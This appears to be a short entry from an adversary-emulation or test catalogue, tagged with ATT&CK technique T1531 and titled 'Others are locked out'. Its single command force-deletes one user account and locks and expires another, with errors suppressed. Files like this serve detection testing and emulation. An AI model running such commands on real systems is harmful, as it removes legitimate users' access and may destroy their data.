# title: Others are locked out
# technique: T1531
# needs: userdel
# short: yes

userdel -f bob; passwd -l ann; usermod -L -e 1 ann; true
